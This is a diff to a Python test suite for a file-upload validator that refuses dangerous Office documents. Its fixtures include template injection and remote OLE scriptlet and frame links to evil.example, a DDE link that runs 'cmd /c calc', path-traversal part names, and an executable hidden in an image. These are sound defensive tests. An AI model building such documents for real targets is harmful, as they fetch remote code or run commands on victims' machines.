@@ -37,6 +37,8 @@ MACROS = "contains macros"
 ACTIVEX = "contains ActiveX controls"
 NOT_WELL_FORMED = "is not a well-formed office document"
 PASSWORD = "is password-protected"
+FETCHES = "links to a template, object or document elsewhere"
+RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 JAVASCRIPT_ACTION = b"<< /S /JavaScript /JS (app.alert(1)) >>"
 
 
@@ -224,6 +226,20 @@ def with_duplicate_part():
         return package(main_part, DECLARED_TYPES["docx"] + ".main+xml", (main_part, "<x/>"))
 
 
+def relationships(*entries):
+    """A .rels part: each entry is (type, target, target mode)."""
+    rows = "".join(
+        f'<Relationship Id="rId{number}" Type="{RELATIONSHIPS}/{kind}" Target="{target}"'
+        + (f' TargetMode="{mode}"' if mode else "")
+        + "/>"
+        for number, (kind, target, mode) in enumerate(entries, start=1)
+    )
+    return (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f"{rows}</Relationships>"
+    )
+
+
 OFFICE_FILES = {
     "macros-by-part-name": (docx_with([("word/vbaProject.bin", b"macro")]), MACROS),
     "macros-by-content-type": (
@@ -258,6 +274,39 @@ OFFICE_FILES = {
         docx_with([("word/media/image1.png", b"\x89PNG" + b"\0" * 5000 + WINDOWS_EXECUTABLE)]),
         PROGRAM,
     ),
+    "template-fetched-on-opening": (
+        docx_with(
+            [
+                (
+                    "word/_rels/settings.xml.rels",
+                    relationships(("attachedTemplate", "https://evil.example/t.dotm", "External")),
+                )
+            ]
+        ),
+        FETCHES,
+    ),
+    "object-fetched-on-opening": (
+        docx_with(
+            [
+                (
+                    "word/_rels/document.xml.rels",
+                    relationships(("oleObject", "file://evil.example/x.sct", "External")),
+                )
+            ]
+        ),
+        FETCHES,
+    ),
+    "frame-fetched-on-opening": (
+        docx_with(
+            [
+                (
+                    "word/_rels/webSettings.xml.rels",
+                    relationships(("frame", "https://evil.example/f", "External")),
+                )
+            ]
+        ),
+        FETCHES,
+    ),
     "absolute-part-name": (docx_with([("/etc/cron.d/job", b"x")]), NOT_WELL_FORMED),
     "parent-folder-in-a-part-name": (docx_with([("word/../../evil.xml", b"x")]), NOT_WELL_FORMED),
     "drive-letter-in-a-part-name": (docx_with([("C:/evil.xml", b"x")]), NOT_WELL_FORMED),
@@ -285,6 +334,41 @@ def test_an_old_or_password_protected_office_file_is_refused_with_what_to_do(
     response = send(client, valid_practice, upload("plan.doc", compound_file))
     assert_refused(response, "plan.doc", "is an older Office file", private_storage_root)
     assert "Save it as .docx, .xlsx or .pptx without a password" in response.content.decode()
+
+
+def test_a_workbook_with_a_dde_link_is_refused(client, valid_practice, private_storage_root):
+    content = office_bytes(
+        "xlsx",
+        extra_parts=[
+            (
+                "xl/externalLinks/externalLink1.xml",
+                '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
+            )
+        ],
+    )
+    response = send(client, valid_practice, upload("plan.xlsx", content))
+    assert_refused(response, "plan.xlsx", FETCHES, private_storage_root)
+
+
+def test_a_document_with_web_links_and_its_own_template_is_accepted(client, valid_practice):
+    content = docx_with(
+        [
+            (
+                "word/_rels/document.xml.rels",
+                relationships(
+                    ("hyperlink", "https://www.college.police.uk/", "External"),
+                    ("styles", "styles.xml", None),
+                ),
+            ),
+            (
+                "word/_rels/settings.xml.rels",
+                relationships(("attachedTemplate", "Normal.dotm", None)),
+            ),
+        ]
+    )
+    response = send(client, valid_practice, upload("plan.docx", content))
+    assert response.status_code == 302
+    assert SubmissionFile.objects.get().file_type == "docx"
 
 
 @pytest.mark.parametrize("kind", ["docx", "xlsx", "pptx"])
